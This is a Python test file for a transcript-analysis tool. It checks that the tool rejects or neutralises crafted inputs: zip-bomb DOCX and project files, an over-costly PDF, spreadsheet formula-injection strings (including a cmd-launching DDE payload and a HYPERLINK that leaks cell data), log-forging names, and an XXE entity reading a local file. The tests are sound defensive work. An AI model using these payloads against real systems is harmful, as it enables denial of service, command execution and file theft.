"""Files analysts receive from others are untrusted: a damaged or crafted transcript, sheet or project file
is refused in one line that names it, before it can take the machine's memory or hours of its time.

Each hostile file is built here, small, from bytes.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pandas as pd
import pytest

from analysis.errors import InputError
from helpers import write_docx

# Deflate packs a run of spaces about a thousand times: 100 MiB of them fit in about 100 kB.
PADDING_MIB = 100


def with_padded_member(src: Path, dst: Path, member: str, before: bytes) -> Path:
    """A copy of the zip `src` in which `member` carries PADDING_MIB MiB of spaces (XML whitespace, so
    the file stays well-formed) just before the first `before`: a zip bomb of the gentlest kind."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename != member:
                zout.writestr(info.filename, data)
                continue
            head, tail = data.split(before, 1)
            padded = zipfile.ZipInfo(member)
            padded.compress_type = zipfile.ZIP_DEFLATED
            with zout.open(padded, "w", force_zip64=True) as out:
                out.write(head)
                for _ in range(PADDING_MIB):
                    out.write(b" " * 2**20)
                out.write(before + tail)
    assert dst.stat().st_size < 2**20  # the file itself is small
    return dst


def test_a_word_file_that_unpacks_to_far_more_than_its_size_is_refused_unread(tmp_path):
    from analysis.ingest.readers.word import read_docx

    plain = write_docx(tmp_path / "plain.docx", ["Kenya: We agree."])
    bomb = with_padded_member(plain, tmp_path / "minutes.docx", "word/document.xml", b"<w:body>")
    with pytest.raises(InputError, match=r"minutes\.docx: .*word/document\.xml.*zip bomb.*sessions\.csv"):
        read_docx(bomb)
    assert read_docx(plain).segments  # a real one is read


def test_a_project_file_that_unpacks_to_far_more_than_its_size_is_refused_unread(tmp_path):
    from analysis.exchange import qdc
    from analysis.exchange.import_coding import read_project
    from analysis.exchange.qdpx import export_project
    from test_refi import build_tables

    plain = tmp_path / "plain.qdpx"
    export_project(*build_tables(), qdc.load_codebook(), plain)
    bomb = with_padded_member(plain, tmp_path / "study.qdpx", "project.qde", b"<Users")
    with pytest.raises(InputError, match=r"study\.qdpx: .*project\.qde.*zip bomb.*Export the project again"):
        read_project(bomb)
    assert len(read_project(plain)[0])  # a real one is read


def pdf_bytes(content: bytes, pages: int) -> bytes:
    """A PDF of `pages` pages that all draw one deflated content stream: a few kB that ask pypdf to
    read `content` once a page."""
    stream = zlib.compress(content, 9)
    kids = " ".join(f"{5 + i} 0 R" for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ] + [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
         b"/Contents 4 0 R >>"] * pages  # fmt: skip
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_a_pdf_whose_pages_ask_far_more_work_than_its_size_is_refused_midway(tmp_path):
    from analysis.ingest.readers.pdf import read_pdf

    speech = b"BT /F1 12 Tf 72 712 Td " + b"(Kenya: We agree with the Framework. ) Tj " * 30_000 + b"ET"
    crafted = tmp_path / "record.pdf"
    crafted.write_bytes(pdf_bytes(speech, pages=3))  # about 4 kB asking for 3 x 1.1 million characters
    with pytest.raises(InputError, match=r"record\.pdf: a PDF that asks far more work than any transcript"):
        read_pdf(crafted)
    plain = tmp_path / "short.pdf"
    plain.write_bytes(pdf_bytes(b"BT /F1 12 Tf 72 712 Td (Kenya: We agree with the Framework.) Tj ET", 3))
    assert "We agree" in read_pdf(plain).segments[0].text  # a real one is read


# What a spreadsheet would run, quoted from a transcript: a link, a program, a sum, a formula after a tab.
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3 climate",
    "@SUM(1)",
    "\t=1",
]


def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(tmp_path):
    from analysis import catalogue

    quotes = pd.DataFrame([{
        "group": "African Group", "theme": "skills", "theme_label": "Skills", "theme_short": "Skills",
        "rank": i + 1, "country": "KEN", "delegation": "Kenya", "speaker": "=Kenya", "text": text,
        "evidence": ["-skills"], "source": "a.txt:1", "locator": "a.txt:1", "sentence_id": f"S/0/{i}",
        "session_id": "S", "turn": 0, "sentence": i, "n_words": 3, "score": -2,
    } for i, text in enumerate([*FORMULAS, "-0.25", "Skills - and = rights."])])  # fmt: skip
    exported = pd.read_csv(io.BytesIO(catalogue.encode("quotes", quotes)["quotes.csv"]), dtype=str)
    assert exported["text"].tolist() == ["'" + f for f in FORMULAS] + ["-0.25", "Skills - and = rights."]
    assert set(exported["speaker"]) == {"'=Kenya"} and set(exported["evidence"]) == {"'-skills"}
    assert set(exported["score"]) == {"-2"}  # numbers stay numbers
    parquet = pd.read_parquet(io.BytesIO(catalogue.encode("quotes", quotes)["quotes.parquet"]))
    assert parquet["text"].tolist()[: len(FORMULAS)] == FORMULAS  # the table itself keeps the words


def test_the_csv_beside_a_figure_holds_a_groups_formula_like_name_as_text():
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib.figure import Figure

    from analysis import figures

    data = pd.DataFrame(
        {"group": ["=Group(1)", "Arab Group"], "term": ["@handle", "skills"], "share": [-0.5, 1]}
    )
    files = figures.figure_files(Figure(), data, "terms", {})
    saved = pd.read_csv(io.BytesIO(files["terms.csv"]), dtype=str)
    assert saved.to_dict("list") == {
        "group": ["'=Group(1)", "Arab Group"],
        "term": ["'@handle", "skills"],
        "share": ["-0.5", "1"],
    }


def test_names_from_a_project_file_cannot_break_or_forge_the_lines_a_run_prints(tmp_path):
    from analysis.exchange.qdpx import export_project
    from test_cli import cli
    from test_refi import NS, build_tables, rezip, write_processed

    tables = build_tables()
    processed = write_processed(tmp_path / "processed", tables)
    export_project(*tables, None, tmp_path / "s.qdpx")
    forged = "zz\nwarning: every coding imported\r\x85\u202eevil"  # XML holds these as &#10; &#13; ...

    def forge(root):
        root.find(".//q:CodeRef", NS).set("targetGUID", forged)

    hostile = rezip(tmp_path / "s.qdpx", tmp_path / "h.qdpx", edit_qde=forge)
    proc = cli("import-coding", str(hostile), "--processed", str(processed), "--out", str(tmp_path / "c.tsv"))
    assert proc.returncode == 0, proc.stderr
    lines = proc.stderr.splitlines()
    assert lines and all(line.startswith("warning: ") for line in lines), proc.stderr
    assert "GUID zz\\nwarning: every coding imported\\r\\x85\\u202eevil" in proc.stderr


def _project_using_an_entity(tmp_path):
    """The export of `build_tables`, a reviewer's first description made `Seen: &x; Matched words: ...` with
    `x` naming a local file holding SECRET (the XXE of OWASP); the tables and the crafted project."""
    from analysis.exchange import qdc
    from analysis.exchange.qdpx import export_project
    from test_refi import build_tables

    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET WORDS OF THIS MACHINE")
    turns, sentences, evidence = build_tables()
    plain = export_project(turns, sentences, evidence, qdc.load_codebook(), tmp_path / "plain.qdpx").path
    crafted = tmp_path / "crafted.qdpx"
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(crafted, "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == "project.qde":
                head, body = data.split(b"\n", 1)
                doctype = b'<!DOCTYPE Project [<!ENTITY x SYSTEM "%s">]>\n' % secret.as_uri().encode()
                body = body.replace(
                    b"<Description>Matched words: ", b"<Description>Seen: &x; Matched words: ", 1
                )
                data = head + b"\n" + doctype + body
            zout.writestr(name, data)
    return (turns, sentences, evidence), crafted


def test_a_project_file_naming_a_file_of_this_machine_as_an_entity_is_read_without_it(tmp_path):
    """An external entity (`<!ENTITY x SYSTEM "file:///...">`, the XXE of OWASP) in a description a reviewer
    wrote is left unread: the import reads the project, and nothing of that file reaches the sheet."""
    from analysis.exchange import qdc
    from analysis.exchange.import_coding import import_coding

    (turns, sentences, evidence), crafted = _project_using_an_entity(tmp_path)
    result = import_coding(crafted, turns, sentences, qdc.load_codebook(), evidence)
    assert "SECRET" not in result.coded.to_csv() + "\n".join(result.warnings)
    assert result.warnings[0].startswith("project.qde does not follow the REFI-QDA project schema")
    assert "it declares entities" in result.warnings[0]
    assert result.coded["note"].str.startswith("Seen:").sum() == 1  # the reviewer's words, without the file's


def test_the_words_after_an_entity_are_read_with_it_left_out(tmp_path):
    """An entity left unread is the entity alone: the reviewer's words after it in the same description
    ("Seen: &x; Matched words: ...") were dropped with it, the note cut to "Seen:"."""
    from analysis.exchange import qdc
    from analysis.exchange.import_coding import import_coding

    (turns, sentences, evidence), crafted = _project_using_an_entity(tmp_path)
    result = import_coding(crafted, turns, sentences, qdc.load_codebook(), evidence)
    (note,) = [n for n in result.coded["note"] if n.startswith("Seen:")]
    assert note.startswith("Seen: Matched words: ") and "SECRET" not in note, note
